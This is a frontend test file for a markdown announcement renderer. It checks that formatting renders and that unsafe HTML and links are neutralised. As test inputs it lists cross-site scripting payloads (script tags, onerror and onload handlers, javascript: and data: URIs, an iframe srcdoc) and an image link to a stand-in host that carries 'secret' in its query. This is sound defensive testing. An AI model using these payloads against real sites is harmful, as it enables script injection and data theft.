import { renderScreen } from '@portal/shared/testing';
import { screen } from '@testing-library/react';
import { AnnouncementText } from './announcement-text';
import { AnnouncementAction } from './announcement-link';

const show = (content: string) => renderScreen(<AnnouncementText content={content} />);

test('renders markdown as elements', () => {
  show('# What changes\n\n1. **First** and *then*\n2. `code`\n\n- [Home](/home)\n- end\n\none\ntwo');
  expect(screen.getAllByRole('list')).toHaveLength(2);
  expect(screen.getAllByRole('listitem')).toHaveLength(4);
  expect(screen.getByText('First').tagName).toBe('STRONG');
  expect(screen.getByText('then').tagName).toBe('EM');
  expect(screen.getByText('code').tagName).toBe('CODE');
  expect(screen.getByRole('link', { name: 'Home' })).toHaveAttribute('href', '/home');
});

test.each([
  '<script>window.stolen = 1</script>',
  '<img src=x onerror="window.stolen = 1">',
  '<a href="javascript:window.stolen=1">x</a>',
  '<svg/onload=window.stolen=1>',
  '&lt;script&gt;window.stolen=1&lt;/script&gt;',
  '**<iframe srcdoc="<script>parent.stolen=1</script>">**',
])('renders %s as text', (content) => {
  const { container } = show(content);
  expect(container.textContent).toContain(content.replaceAll('**', ''));
  expect(container.innerHTML).not.toMatch(/<(script|img|iframe|svg|a)\b/i);
  expect('stolen' in window).toBe(false);
});

test.each([
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,x',
  'vbscript:x',
  '//evil.example',
  '/\\evil.example',
  'http://plain.example/',
  'https://user:password@evil.example/',
  'relative',
])('renders only the text of a link to %s', (uri) => {
  const link = uri.includes('(') ? uri.replace(/\(.*/, '') : uri;
  show(`[words](${link})`);
  expect(screen.getByText('words')).toBeVisible();
  expect(screen.queryByRole('link')).not.toBeInTheDocument();
});

test('fetches no image', () => {
  const { container } = show('![a cat](https://evil.example/?d=secret)');
  expect(container.textContent).toBe('a cat');
  expect(container.innerHTML).not.toContain('evil');
});

test.each([
  ['/home', 'Go', null],
  ['/help/en/home', 'Go (opens in a new tab)', '_blank'],
  ['https://example.com/a', 'Go (opens in a new tab)', '_blank'],
])("opens the announcement's link to %s in the right tab", (uri, name, target) => {
  renderScreen(<AnnouncementAction link={{ uri, hyperText: 'Go' }} />);
  const link = screen.getByRole('link', { name });
  expect(link).toHaveAttribute('href', uri);
  expect(link.getAttribute('target')).toBe(target);
  expect(link.getAttribute('rel')).toBe(target === null ? null : 'noopener noreferrer');
});
